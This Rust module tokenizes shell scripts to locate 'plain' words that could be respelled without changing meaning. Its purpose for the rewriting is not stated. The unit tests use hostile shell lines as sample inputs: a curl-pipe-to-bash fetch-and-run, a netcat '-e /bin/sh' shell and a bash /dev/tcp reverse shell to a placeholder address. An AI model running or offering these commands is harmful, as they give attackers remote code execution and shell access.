//! Where the plain words of a shell script stand: those that may be spelled otherwise without a
//! change of meaning. Text in quotes, expansions, here documents, comments, patterns and reserved
//! words are left alone, so that a rewriting never breaks what it rewrites.

use std::ops::Range;

/// A plain word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    /// Where.
    pub range: Range<usize>,
    /// Whether the next word belongs to the same command and one space lies between.
    pub joins: bool,
}

/// Words that the grammar knows; and those behind which a name or pattern stands.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "in", "function", "select", "time", "coproc", "local", "export", "declare", "typeset",
    "readonly", "alias", "unset", "read", "break", "continue", "return", "set", "shift", "trap",
];

/// Every plain word of a script; none if it holds what is too hard to tell.
pub fn plain(text: &str) -> Vec<Word> {
    let hard = ["[[", "((", "case ", "<<", "`"];
    if hard.iter().any(|sign| text.contains(sign)) {
        return Vec::new();
    }
    let bytes = text.as_bytes();
    let mut words: Vec<Word> = Vec::new();
    let mut at = 0;
    // Behind a reserved word that takes names, nothing is plain until the command ends.
    let mut named = false;
    while at < bytes.len() {
        match bytes[at] {
            b'#' if at == 0 || bytes[at - 1].is_ascii_whitespace() => at = line_end(bytes, at),
            b' ' | b'\t' => at += 1,
            b'\n' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' | b'{' | b'}' => {
                named &= !matches!(bytes[at], b'\n' | b';' | b'|');
                at += 1;
            }
            _ => {
                let end = word_end(bytes, at);
                let word = text.get(at..end).unwrap_or_default();
                let is_descriptor = word.bytes().all(|b| b.is_ascii_digit())
                    && matches!(bytes.get(end), Some(b'<' | b'>'));
                let is_function = matches!(bytes.get(end), Some(b'('));
                let is_plain = word.len() > 1
                    && !RESERVED.contains(&word)
                    && word
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"_./:-,%@+".contains(&b))
                    && !is_descriptor
                    && !is_function
                    && !named;
                named |= RESERVED.contains(&word) && !ENDS.contains(&word);
                if is_plain {
                    words.push(Word {
                        range: at..end,
                        joins: false,
                    });
                }
                at = end.max(at + 1);
            }
        }
    }
    for at in 1..words.len() {
        let between = words[at - 1].range.end..words[at].range.start;
        words[at - 1].joins = text.get(between) == Some(" ");
    }
    words
}

/// Reserved words behind which a command begins.
const ENDS: &[&str] = &["if", "then", "else", "elif", "while", "until", "do", "time"];

fn line_end(bytes: &[u8], at: usize) -> usize {
    bytes[at..]
        .iter()
        .position(|b| *b == b'\n')
        .map_or(bytes.len(), |length| at + length)
}

/// The end of the word at `at`, over quotes and expansions.
fn word_end(bytes: &[u8], mut at: usize) -> usize {
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' => break,
            b'\'' => at = closing(bytes, at + 1, b'\''),
            b'"' => at = quoted_end(bytes, at + 1),
            b'\\' => at += 2,
            b'$' if bytes.get(at + 1) == Some(&b'(') => at = nested_end(bytes, at + 2, b'(', b')'),
            b'$' if bytes.get(at + 1) == Some(&b'{') => at = nested_end(bytes, at + 2, b'{', b'}'),
            _ => at += 1,
        }
    }
    at.min(bytes.len())
}

fn closing(bytes: &[u8], at: usize, quote: u8) -> usize {
    let rest = bytes.get(at..).unwrap_or_default();
    rest.iter()
        .position(|b| *b == quote)
        .map_or(bytes.len(), |length| at + length + 1)
}

fn quoted_end(bytes: &[u8], mut at: usize) -> usize {
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'"' => return at + 1,
            b'\\' => at += 2,
            b'$' if bytes.get(at + 1) == Some(&b'(') => at = nested_end(bytes, at + 2, b'(', b')'),
            _ => at += 1,
        }
    }
    bytes.len()
}

fn nested_end(bytes: &[u8], mut at: usize, open: u8, close: u8) -> usize {
    let mut depth = 1;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b'\'' => {
                at = closing(bytes, at + 1, b'\'');
                continue;
            }
            b'"' => {
                at = quoted_end(bytes, at + 1);
                continue;
            }
            byte if byte == open => depth += 1,
            byte if byte == close => depth -= 1,
            _ => {}
        }
        at += 1;
        if depth == 0 {
            return at;
        }
    }
    bytes.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Vec<&str> {
        plain(text)
            .into_iter()
            .map(|word| &text[word.range])
            .collect()
    }

    #[test]
    fn only_words_that_may_be_respelled_are_plain() {
        assert_eq!(
            of("curl -s http://x/a | bash"),
            ["curl", "-s", "http://x/a", "bash"]
        );
        assert_eq!(of("for i in a1 b2; do ls /tmp; done"), ["ls", "/tmp"]);
        assert_eq!(
            of("x=abc; echo \"$(curl z)\" 'wget q' 2>/dev/null"),
            ["echo", "/dev/null"]
        );
        assert_eq!(of("f() { nc -e /bin/sh; }"), ["nc", "-e", "/bin/sh"]);
        assert_eq!(
            of("bash -i >& /dev/tcp/1.2.3.4/5 0>&1"),
            ["bash", "-i", "/dev/tcp/1.2.3.4/5"]
        );
        assert!(of("cat <<X\ncurl\nX").is_empty());
    }
}
